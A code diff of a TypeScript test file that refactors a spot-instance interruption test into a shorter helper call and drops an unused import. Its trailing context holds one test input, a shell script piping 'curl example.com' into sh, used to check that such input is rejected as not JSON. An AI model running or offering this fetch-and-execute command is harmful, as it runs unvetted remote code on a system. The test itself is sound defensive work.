@@ -5,7 +5,6 @@ import { contractVersion } from '../../agent/contract/contract-version.ts';
 import { ledgerKey } from '../../agent/contract/ledger.ts';
 import { orderSchema } from '../../agent/contract/order.ts';
 import { repositories, worlds } from '../deployed-stack/configuration.ts';
-import type { Machine } from '../local-cloud/host/machine.ts';
 import type { CloudEvent } from '../local-cloud/local-cloud.ts';
 import { damageFirst, isData } from './damage.ts';
 import { forgedInstance, forger } from './forger.ts';
@@ -73,40 +72,12 @@ describe('an instance', () => {
     }
   });
 
-  test.for([
-    [
-      'spot is about to take away',
-      'interrupted',
-      async (machine: Machine) => {
-        await runs.endToEnd.stack.cloud.host.interrupt(machine.instanceId);
-        // Storage is so slow that the proof is still under way.
-        await machine.poweredOff;
-      },
-    ],
-  ] as const)(
-    'that %s is followed by the next attempt, and the verdict is that one’s',
-    async ([what, outcome, end]) => {
-      runs.inject({
-        // Only an agent reads the repository's index; what a snapshot says of itself, the trigger reads, too.
-        match: { action: 'GetObject', resource: new RegExp(`${repositories.logs.bucket}/.*index-\\d+$`) },
-        fault: {
-          kind: 'meanwhile',
-          when: 'before',
-          run: async () => void (await Promise.all([...runs.endToEnd.stack.cloud.host.machines.values()].map(end))),
-        },
-        times: 1,
-      });
-      const snapshot = await runs.land(what.replaceAll(' ', '-'));
-      await runs.expectTrueEndOfSecond(snapshot);
-      const [first, second] = (await runs.endToEnd.report(snapshot)).attempts;
-      expect(first?.outcome).toBe(outcome);
-      const gone = runs.endToEnd.events.find(
-        (event) => event.kind === 'instance-powered-off' && event.instanceId === first?.instanceId,
-      );
-      const seconds = (Date.parse(second?.launchedAt ?? '') - Number(gone?.at)) / 1_000;
-      expect(seconds).toBeLessThan(30);
-    },
-  );
+  test('that spot is about to take away is followed by the next attempt, and the verdict is that one’s', () =>
+    runs.expectNextAttemptAfter('spot is about to take away', 'interrupted', async (machine) => {
+      await runs.endToEnd.stack.cloud.host.interrupt(machine.instanceId);
+      // Storage is so slow that the proof is still under way.
+      await machine.poweredOff;
+    }));
 
   test.for([
     ['is no order', '#!/bin/sh\ncurl example.com | sh', 'not JSON'],
